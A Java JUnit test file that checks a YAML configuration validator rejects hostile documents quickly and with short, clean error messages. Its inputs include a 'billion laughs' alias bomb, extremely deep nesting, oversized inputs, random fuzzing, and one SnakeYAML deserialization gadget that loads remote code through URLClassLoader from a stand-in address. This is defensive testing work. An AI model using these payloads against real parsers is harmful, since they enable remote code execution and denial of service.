// SPDX-License-Identifier: Apache-2.0
package io.github.tachydromos.core.rule;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.tachydromos.core.config.SuiteFixture;
import io.github.tachydromos.core.finding.Finding;
import io.github.tachydromos.core.finding.Findings;
import io.github.tachydromos.core.rule.Judgement.Rejected;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class HostileDocumentTest {
    private static final Duration SOON = Duration.ofSeconds(1);

    private static final int MIB = 1024 * 1024;

    @BeforeAll
    static void warmUp() {
        SuiteJudge.judge(SuiteFixture.document());
    }

    static Stream<Arguments> documents() {
        return Stream.of(
                hostile("nothing", "", "document-not-a-mapping"),
                hostile("a comment", "# x\n", "document-not-a-mapping"),
                hostile("a list", "- a\n", "document-not-a-mapping"),
                hostile("a scalar", "x", "document-not-a-mapping"),
                hostile("an open list", "a: [", "document-not-yaml"),
                hostile("a tab", "a:\n\tb: c\n", "document-not-yaml"),
                hostile("JSON cut off", "{\"a\": {\"b\": \"", "document-not-yaml"),
                hostile("NUL", "hostname: a\u0000b\n", "document-not-yaml"),
                hostile("bell", "hostname: a\u0007b\n", "document-not-yaml"),
                hostile("half a surrogate pair", "hostname: \ud800\n", "document-not-yaml"),
                hostile("binary", new String(bytes(4096), StandardCharsets.ISO_8859_1), "document-not-yaml"),
                hostile("binary as UTF-8", new String(bytes(4096), StandardCharsets.UTF_8), "document-not-yaml"),
                hostile("a key twice", SuiteFixture.document() + "hostname: a.example.org\n", "key-twice"),
                hostile("a key twice, the schema", "schema: 1\nschema: 2\n", "key-twice"),
                hostile(
                        "an alias",
                        SuiteFixture.document()
                                .replace("hostname: ", "hostname: &a ")
                                .replace("postmaster@example.org", "*a"),
                        "document-alias"),
                hostile("an alias of nothing", "hostname: *a\n", "document-alias"),
                hostile("laughs", laughs(), "document-alias"),
                hostile("an alias of itself", "a: &a [*a]\n", "document-alias"),
                hostile("a merge", "a: &a {b: c}\nd: {<<: *a}\n", "document-alias"),
                hostile("an alias as a key", "? *a\n: b\n", "document-not-yaml", "document-alias"),
                hostile(
                        "a class",
                        "hostname: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://192.0.2.1/\"]]]]\n",
                        "document-tag"),
                hostile("a local tag", "hostname: !x y\n", "document-tag"),
                hostile("a harmless tag", "hostname: !!str mail.example.org\n", "document-tag"),
                hostile("a binary tag", "hostname: !!binary aGVsbG8=\n", "document-tag"),
                hostile("two documents", SuiteFixture.document() + "---\na: b\n", "document-not-single"),
                hostile(
                        "an end and more",
                        SuiteFixture.document() + "...\na: b\n",
                        "document-not-single",
                        "document-not-yaml"),
                hostile("17 levels", "a: ".concat("[".repeat(16)).concat("]".repeat(16)), "document-too-deep"),
                hostile("a million levels of lists", "[\n".repeat(MIB / 2 - 10), "document-too-deep"),
                hostile("a million levels of mappings", "{a:\n".repeat(MIB / 5), "document-too-deep"),
                hostile("a million levels of keys", "? ".repeat(MIB / 9), "document-too-deep", "document-not-yaml"),
                hostile("a million levels of dashes", "- ".repeat(MIB / 9), "document-too-deep"),
                hostile("an endless number", "schema: " + "9".repeat(MIB / 5), "value-type"),
                hostile("an endless key", "a".repeat(MIB - 10) + ": b\n", "document-too-large"),
                hostile("an endless value", "hostname: " + "a.".repeat(MIB / 9), "host-name-not-qualified"),
                hostile("1 MiB of wrong lines", table("a wrong result\n", MIB - 4096), "access-result-unknown"),
                hostile("1 MiB of lines without a result", table("aaaa\n", MIB - 4096), "access-line-invalid"),
                hostile(
                        "many keys",
                        IntStream.range(0, 15_000)
                                .mapToObj(i -> "k" + i + ": 1\n")
                                .collect(Collectors.joining()),
                        "key-unknown"),
                hostile("many networks", "podNetworks: [" + "10.0.0.1/8,\n".repeat(15_000) + "]\n", "list-too-long"),
                hostile("many aliases", "a: &a x\nb: [" + "*a,\n".repeat(15_000) + "]\n", "document-alias"),
                hostile("1 MiB of values", "a: [" + "a,\n".repeat(MIB / 3 - 10) + "]\n", "document-too-large"),
                hostile("1 MiB of items", "a:\n" + "- b\n".repeat(MIB / 4 - 10), "document-too-large"),
                hostile("a line without end", "a: " + "x".repeat(MIB / 2), "document-too-large"),
                hostile("3 MiB", "# " + "x".repeat(3 * MIB), "document-too-large"),
                hostile("quotes without end", "a: \"" + "\\n".repeat(MIB / 9), "document-not-yaml"),
                hostile("directives", "%YAML 9.9\n%TAG ! tag:x,2000:\n---\na: b\n", "document-not-yaml"),
                hostile("a complex key", "? {a: b}\n: c\n", "document-not-yaml"),
                hostile(
                        "odd spaces",
                        "hostname:\u00a0mail.example.org\u2028x: y\n",
                        "document-not-a-mapping",
                        "key-missing",
                        "document-not-yaml"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("documents")
    void refusesInTimeAndInFewWords(String name, String document, List<String> rules) {
        long start = processorTime();
        Judgement judgement = SuiteJudge.judge(document);
        Duration took = Duration.ofNanos(processorTime() - start);

        assertThat(judgement).isInstanceOfSatisfying(Rejected.class, rejected -> {
            assertThat(Stream.of(rejected.reasons(), rejected.warnings()).flatMap(List::stream))
                    .extracting(Finding::rule)
                    .containsAnyElementsOf(rules);
            assertIsFit(rejected);
        });
        assertThat(took).as(name).isLessThan(SOON);
    }

    /** Of this thread: what else runs on the machine is not the judge's fault. */
    private static long processorTime() {
        return ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime();
    }

    @Test
    void answersWhateverBytesAre() {
        Random random = new Random(4);
        String document = SuiteFixture.document();
        String signs = "\n\t {}[]:,-?*&!|>'\"%@`#\\0aA~\u0000\u0085\u2028\ud83d\u00e9";
        for (int i = 0; i < 2000; i++) {
            StringBuilder text = new StringBuilder(document);
            for (int change = random.nextInt(8); change >= 0; change--) {
                int at = random.nextInt(text.length());
                switch (random.nextInt(4)) {
                    case 0 -> text.setCharAt(at, signs.charAt(random.nextInt(signs.length())));
                    case 1 -> text.insert(at, signs.charAt(random.nextInt(signs.length())));
                    case 2 -> text.delete(at, Math.min(text.length(), at + random.nextInt(40)));
                    default -> text.insert(at, text.substring(at, Math.min(text.length(), at + random.nextInt(200))));
                }
            }

            if (SuiteJudge.judge(text.toString()) instanceof Rejected rejected) {
                assertIsFit(rejected);
            }
        }
    }

    private static void assertIsFit(Rejected rejected) {
        assertThat(rejected.reasons()).isNotEmpty().hasSizeLessThanOrEqualTo(Findings.MOST + 1);
        assertThat(rejected.warnings()).hasSizeLessThanOrEqualTo(Findings.MOST + 1);
        Stream.of(rejected.reasons(), rejected.warnings())
                .flatMap(List::stream)
                .map(Finding::toString)
                .forEach(line -> {
                    assertThat(line).hasSizeLessThan(600);
                    assertThat(line.chars().noneMatch(Character::isISOControl))
                            .as(line)
                            .isTrue();
                    assertThat(line).doesNotContain("Exception", "com.fasterxml", "org.yaml");
                });
    }

    private static Arguments hostile(String name, String document, String... rules) {
        return Arguments.of(name, document, List.of(rules));
    }

    private static String laughs() {
        StringBuilder text = new StringBuilder("a0: &a0 [x, x]\n");
        for (int i = 1; i < 40; i++) {
            text.append("a%d: &a%d [*a%d, *a%d]\n".formatted(i, i, i - 1, i - 1));
        }
        return text.toString();
    }

    private static String table(String line, int size) {
        String indented = "    " + line;
        return SuiteFixture.with(
                "  heloWhitelist: \"\"\n", "  heloWhitelist: |\n" + indented.repeat(size / indented.length()));
    }

    private static byte[] bytes(int size) {
        byte[] bytes = new byte[size];
        new Random(7).nextBytes(bytes);
        return bytes;
    }
}
